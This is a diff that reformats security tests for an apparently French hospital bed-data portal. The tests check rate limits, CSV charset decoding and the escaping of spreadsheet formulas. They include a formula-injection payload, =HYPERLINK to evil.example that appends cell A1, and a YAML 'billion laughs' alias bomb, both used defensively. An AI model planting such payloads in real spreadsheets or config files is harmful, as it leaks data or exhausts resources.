@@ -67,10 +67,7 @@ beforeAll(async () => {
   token = createToken(state, 'hopital-test').token;
   hostileToken = createToken(hostileState, 'hopital-test').token;
   hostileDist = distWithHostileSchema();
-  [server, hostile] = await Promise.all([
-    startServer(inject('fixtureDist'), { ...state.env, PORTAL_RATE_LIMIT: '0' }),
-    startServer(hostileDist, { ...hostileState.env, PORTAL_RATE_LIMIT: '0' }),
-  ]);
+  [server, hostile] = await Promise.all([startServer(inject('fixtureDist'), { ...state.env, PORTAL_RATE_LIMIT: '0' }), startServer(hostileDist, { ...hostileState.env, PORTAL_RATE_LIMIT: '0' })]);
 });
 
 afterAll(async () => {
@@ -128,7 +125,9 @@ describe('live pushes: bounded work per request', () => {
     // The benchmark's 10,000-row requests are still accepted, in CSV and JSON.
     const csv = `etablissement;jour;lits_occupes;lits_total\n${Array.from({ length: 10_000 }, (_, i) => `H${String(i % 100).padStart(2, '0')};${day(1000 + Math.floor(i / 100))};1;2`).join('\n')}\n`;
     expect((await push(server, csv, 'text/csv')).status).toBe(201);
-    const json = JSON.stringify({ rows: Array.from({ length: 10_000 }, (_, i) => ({ etablissement: `H${String(i % 100).padStart(2, '0')}`, jour: day(2000 + Math.floor(i / 100)), lits_occupes: 1, lits_total: 2 })) });
+    const json = JSON.stringify({
+      rows: Array.from({ length: 10_000 }, (_, i) => ({ etablissement: `H${String(i % 100).padStart(2, '0')}`, jour: day(2000 + Math.floor(i / 100)), lits_occupes: 1, lits_total: 2 })),
+    });
     const accepted = await push(server, json);
     expect(accepted.status, accepted.text.slice(0, 300)).toBe(201);
     expect(JSON.parse(accepted.text)).toEqual({ accepted: 10_000 });
@@ -148,7 +147,21 @@ describe('live pushes: bounded work per request', () => {
   it('3. the current-data CSV neutralises spreadsheet formulas; raw=1 keeps the exact values', async () => {
     const tok = hostileToken;
     const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
-    expect((await push(hostile, JSON.stringify({ rows: [{ etablissement: 'H42', jour: day(0), note: formula }, { etablissement: 'H42', jour: day(1), note: '-5' }] }), 'application/json', tok)).status).toBe(201);
+    expect(
+      (
+        await push(
+          hostile,
+          JSON.stringify({
+            rows: [
+              { etablissement: 'H42', jour: day(0), note: formula },
+              { etablissement: 'H42', jour: day(1), note: '-5' },
+            ],
+          }),
+          'application/json',
+          tok,
+        )
+      ).status,
+    ).toBe(201);
     const people = await (await fetch(`${rowsUrl(hostile)}?format=csv&etablissement=H42`)).text();
     expect(people).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
     expect(people).toContain(',-5\r\n'); // a number written as text is not a formula
@@ -169,7 +182,14 @@ describe('live pushes: bounded work per request', () => {
   it('5. the charset of a push is honoured: windows-1252 and iso-8859-1 CSV decoded, unknown charsets and non-UTF-8 JSON refused (415)', async () => {
     const tok = hostileToken;
     // "Hôpital Saint-Éloi – 12 €" in windows-1252: ô=F4, É=C9, en dash=96, euro=80
-    const cp1252 = Buffer.concat([Buffer.from('etablissement;jour;note\nH44;2021-01-01;H', 'ascii'), Buffer.from([0xf4]), Buffer.from('pital Saint-', 'ascii'), Buffer.from([0xc9]), Buffer.from('loi ', 'ascii'), Buffer.from([0x96, 0x20, 0x31, 0x32, 0x20, 0x80, 0x0a])]);
+    const cp1252 = Buffer.concat([
+      Buffer.from('etablissement;jour;note\nH44;2021-01-01;H', 'ascii'),
+      Buffer.from([0xf4]),
+      Buffer.from('pital Saint-', 'ascii'),
+      Buffer.from([0xc9]),
+      Buffer.from('loi ', 'ascii'),
+      Buffer.from([0x96, 0x20, 0x31, 0x32, 0x20, 0x80, 0x0a]),
+    ]);
     const ok = await push(hostile, cp1252, 'text/csv; charset=windows-1252', tok);
     expect(ok.status, ok.text).toBe(201);
     const iso = await push(hostile, Buffer.from('etablissement;jour;note\nH44;2021-01-02;Hôpital\n', 'latin1'), 'text/csv; charset=ISO-8859-1', tok);
@@ -273,7 +293,12 @@ describe('live pushes: bounded work per request', () => {
     const r = validateCopy((dir) => {
       const file = join(dir, 'datasets', 'lits-reanimation', 'dataset.yaml');
       const lol = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
-      for (let i = 1; i < 9; i++) lol.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
+      for (let i = 1; i < 9; i++)
+        lol.push(
+          `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9)
+            .fill(`*${String.fromCharCode(96 + i)}`)
+            .join(',')}]`,
+        );
       writeFileSync(file, `${readFileSync(file, 'utf8')}x-bomb:\n${lol.map((l) => `  ${l}`).join('\n')}\n`);
     });
     const out = r.stdout + r.stderr;
